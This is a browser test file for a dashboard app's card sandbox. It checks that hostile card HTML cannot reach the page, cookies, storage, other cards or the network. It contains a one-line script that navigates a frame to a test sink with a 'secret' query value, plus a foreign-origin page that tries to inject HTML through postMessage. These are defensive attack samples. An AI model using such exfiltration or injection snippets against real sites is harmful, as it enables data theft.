import { readFile } from "node:fs/promises"
import { z } from "zod"
import { dataOf } from "#lib/domain/api.ts"
import { CardDetail, DashboardDetail } from "#lib/domain/summaries.ts"
import { clientWithPassword } from "../support/api-client.ts"
import { expect, stack, test } from "../support/browser-test.ts"
import { openConnectionSink } from "../support/connection-sink.ts"
import { signIn } from "../support/sign-in.ts"

const Report = z.record(z.string(), z.unknown())

/** A dashboard whose only card shows this HTML. */
async function dashboardOf(html: string, name: string) {
  const { url, email, password } = stack()
  const api = await clientWithPassword(url, email, password)
  const code = `def render(dataset, filters, params):\n    return ${JSON.stringify(html)}\n`
  const card = await api.expect(dataOf(CardDetail), "POST", "/api/cards", {
    body: { name, language: "python", code, datasets: [] },
  })
  const layout = [{ cardId: card.data.id, x: 0, y: 0, w: 12, h: 8 }]
  const dashboard = await api.expect(dataOf(DashboardDetail), "POST", "/api/dashboards", { body: { name, layout } })
  return `/dashboards/${dashboard.data.id}`
}

test("a hostile card reaches neither the page, nor cookies, nor storage, nor another card, nor any network", async ({
  page,
  expectedComplaints,
}) => {
  // Everything the card tries is refused, and the browser says so.
  expectedComplaints.push(/./)
  const sink = await openConnectionSink()
  const source = await readFile(new URL("../fixtures/frames/hostile-card.html", import.meta.url), "utf8")
  const path = await dashboardOf(source.replaceAll("{{SINK}}", sink.url).replaceAll("{{APP}}", stack().url), "Hostile")
  await signIn(page)
  await page.goto(path)

  const reported = page.frameLocator('iframe[title="Hostile"]').locator("#report")
  await expect(reported).not.toBeEmpty()
  expect(Report.parse(JSON.parse((await reported.textContent()) ?? ""))).toEqual({
    "page document": "refused",
    "page location": "refused",
    "own cookies": "refused",
    "local storage": "refused",
    "session storage": "refused",
    "indexed db": "refused",
    "another card": "refused",
    "top navigation": "refused",
    popup: "null",
    "web rtc": "undefined",
    "web rtc by its old name": "undefined",
    "document.write": "refused",
    worker: "refused",
    "nested realm": "refused",
    "unsafe html": "refused",
    "web socket": "refused",
    fetch: "refused",
    "fetch of the app": "refused",
    import: "refused",
    escaped: [],
  })
  expect(sink.received()).toBe("")
  await expect(page).toHaveURL(new RegExp(`${path}$`))
  await expect(page.getByRole("heading", { name: "Hostile", level: 1 })).toBeVisible()
  await sink.close()
})

test("a card that navigates its own frame away takes no data along, and the page stays", async ({
  page,
  expectedComplaints,
}) => {
  expectedComplaints.push(/./)
  const sink = await openConnectionSink()
  const path = await dashboardOf(`<script>location.href = "${sink.url}/?secret=1"</script>`, "Fugitive")
  await signIn(page)
  const refused = page.waitForEvent("console", (message) => /frame-src/.test(message.text()))
  await page.goto(path)
  await refused
  expect(sink.received()).toBe("")
  await expect(page.getByRole("heading", { name: "Fugitive", level: 1 })).toBeVisible()
  await sink.close()
})

test("a frame takes its words only from the app's own page", async ({ page, expectedComplaints }) => {
  expectedComplaints.push(/./)
  // Another origin of this machine that frames the app's frame page.
  const { createServer } = await import("node:http")
  const foreign = createServer((_, response) => {
    response.setHeader("content-type", "text/html")
    response.end(`<iframe src="${stack().url}/frame" sandbox="allow-scripts"></iframe><script>
      addEventListener("message", ({ source }) => {
        const { port1, port2 } = new MessageChannel()
        port1.onmessage = () => document.title = "answered"
        source.postMessage({ cardloom: "connect" }, "*", [port2])
        port1.postMessage({ type: "html", html: "<p>mine</p>", style: "" })
        setTimeout(() => { document.title ||= "silent" }, 1000)
      })</script>`)
  })
  await new Promise<void>((resolve) => foreign.listen(0, "127.0.0.1", resolve))
  const address = foreign.address()
  await page.goto(`http://127.0.0.1:${typeof address === "object" && address ? address.port : 0}/`)
  await expect(page).toHaveTitle("silent")
  await new Promise((resolve) => foreign.close(resolve))
})
